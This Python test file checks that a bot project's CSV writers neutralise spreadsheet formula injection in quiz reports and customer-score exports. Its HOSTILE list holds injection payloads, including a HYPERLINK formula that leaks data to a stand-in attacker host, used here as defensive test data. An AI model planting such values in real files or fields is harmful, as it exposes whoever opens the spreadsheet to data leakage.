"""Every CSV the project writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from bot.csv_out import csv_writer, safe_cell
from bot.routers.quiz import report_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","Click")', "@SUM(1+1)", "+1+2", "-2+3", "\tx"]


def test_safe_cell_neutralises_formulas_and_keeps_numbers() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert (
        safe_cell("-12.50") == "-12.50" and safe_cell(-3) == -3 and safe_cell("C-1042") == "C-1042"
    )


def test_quiz_report_csv_escapes_player_names() -> None:
    """Issue 14: a player named =HYPERLINK(...) landed unescaped in the /quiz report CSV."""
    rows = [(0, "q1", HOSTILE[0], "77", 1, True, 3.2, 140)]
    table = list(csv.reader(io.StringIO(report_csv(rows).decode("utf-8-sig"))))
    assert table[1][2] == "'" + HOSTILE[0]


def test_demo_company_csv_round_trips_negative_amounts() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["T-1", "C-1", "2026-01-01", "-19.90"])
    assert out.getvalue().strip() == "T-1,C-1,2026-01-01,-19.90"


def test_value_score_out_escapes_customer_ids(tmp_path: Path) -> None:
    """Issue 14: customer ids like =HYPERLINK(...) and @SUM(1+1) landed unescaped in
    `cvm value score --out`."""
    summary = tmp_path / "summary.csv"
    with summary.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "frequency", "recency", "T", "monetary_value"])
        for i in range(60):
            cid = HOSTILE[i % 2] + str(i) if i < 2 else f"C-{i}"
            writer.writerow([cid, i % 5, (i % 5) * 4.0, 40.0, 20.0 + i])
    out = tmp_path / "scores.csv"
    env = {k: v for k, v in os.environ.items() if k != "TELEGRAM_BOT_TOKEN"}
    env["DATA_DIR"] = str(tmp_path / "data")
    subprocess.run(
        [sys.executable, "-m", "bot.cli", "value", "score", "--summary", str(summary),
         "--horizon", "52", "--discount-rate", "0.002", "--out", str(out)],
        env=env, capture_output=True, text=True, timeout=300, check=True,
    )  # fmt: skip
    ids = [row[0] for row in csv.reader(out.open(encoding="utf-8"))][1:3]
    assert ids == ["'" + HOSTILE[0] + "0", "'" + HOSTILE[1] + "1"]


def test_the_column_writer_applies_the_same_rule_as_safe_cell(tmp_path: Path) -> None:
    """`write_columns` (a million scored customers at a time) must agree with `safe_cell`
    on every kind of cell, numbers and near-numbers included."""
    import numpy as np

    from bot.csv_out import write_columns

    cells = [*HOSTILE, "-12.50", "+3", "-1e5", " -7 ", "C-1042", "", "-", "@", "-x1"]
    cells += ["客戶,甲", '"q"']
    out = tmp_path / "cols.csv"
    write_columns(out, {"id": cells, "value": np.linspace(0, 1, len(cells)) / 3})
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0] == ["id", "value"]
    assert [r[0] for r in rows[1:]] == [safe_cell(c) for c in cells]
    assert rows[2][1] == f"{1 / (len(cells) - 1) / 3:.6f}"  # rounded to 6 decimals
